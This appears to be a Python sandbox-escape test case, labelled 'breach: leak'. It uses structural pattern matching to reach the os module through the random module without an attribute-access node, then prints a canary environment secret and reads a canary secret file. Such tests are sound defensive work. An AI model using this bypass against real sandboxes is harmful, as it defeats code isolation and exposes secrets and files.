# Structural pattern matching reads attributes without an Attribute node.
# breach: leak
import random, types
match random:
    case types.ModuleType(_os=o): pass
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
